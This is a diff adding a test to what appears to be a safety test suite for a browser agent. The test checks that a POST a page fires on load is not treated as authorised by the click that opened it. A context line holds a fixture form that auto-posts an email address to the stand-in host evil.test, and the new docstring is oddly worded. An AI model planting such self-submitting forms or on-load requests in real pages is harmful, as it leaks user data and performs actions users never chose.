@@ -60,6 +60,16 @@ async def test_a_page_that_posts_as_it_loads(rig: Rig) -> None:
     assert not rig.site.changes()
 
 
+async def test_what_the_next_page_sends_as_it_loads_was_not_set_off_by_the_click_that_led_to_it(rig: Rig) -> None:
+    """It may be called what only sets a mark: that makes a request lighter behind an act alone."""
+    rig.site.pages["/letter"] = "<h1>Letter</h1><script>fetch('/seen/4', {method: 'POST'})</script>"
+    await rig.show("<a href=/letter>A letter</a>")
+    await rig.click("A letter", covers_of(Touch(classes=("visit_known",), host="shop.test")))
+    (held,) = await rig.holds()
+    assert not held.of_act and touch_of_request(held).undo is not True
+    assert not rig.site.changes()
+
+
 async def test_a_form_that_sends_itself_to_another_site(rig: Rig) -> None:
     await rig.show(
         "<form id=f method=post action=http://evil.test/take><input name=mail value=ann@home.test></form>"
